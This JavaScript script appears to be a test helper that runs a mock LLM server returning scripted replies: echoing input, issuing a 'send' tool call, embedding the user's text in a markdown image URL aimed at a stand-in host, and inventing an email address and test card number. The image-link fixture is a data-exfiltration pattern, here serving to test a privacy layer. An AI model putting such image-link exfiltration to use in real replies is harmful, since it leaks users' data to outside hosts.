// A bot made of `@copilotkit/aimock`, whose folder is the argument. What it does with the last message depends on the model:
// `echo` repeats it, `call` calls a tool with it, `lure` hides it in an image, `invent` names addresses that nobody sent.
// Streams come in pieces of seven characters, so pseudonyms are cut.
const { LLMock } = require(process.argv[2]);

const said = (request) => {
  const content = request.messages.at(-1).content;
  return typeof content === "string" ? content : content.map((part) => part.text ?? "").join("");
};
const answers = {
  echo: (request) => ({ content: `You wrote: ${said(request)}` }),
  call: (request) => ({
    toolCalls: [{ name: "send", arguments: JSON.stringify({ to: said(request).split(" ").at(-1), text: said(request) }) }],
  }),
  lure: (request) => {
    const word = encodeURIComponent(said(request).split(" ").at(-1));
    return { content: `![](https://elsewhere.example/i.png?q=${word}) and https://shop.example/?q=${word} end` };
  },
  invent: () => ({ content: "Ask bob.meyer@made-up.com or pay with 4012 8888 8888 1881, please." }),
};

const bot = new LLMock({ port: 0, chunkSize: 7 });
for (const [model, response] of Object.entries(answers)) bot.addFixture({ match: { model }, response });
bot.start().then(() => console.log(`listening address=${bot.url}`));
process.on("SIGTERM", () => bot.stop().then(() => process.exit(0)));
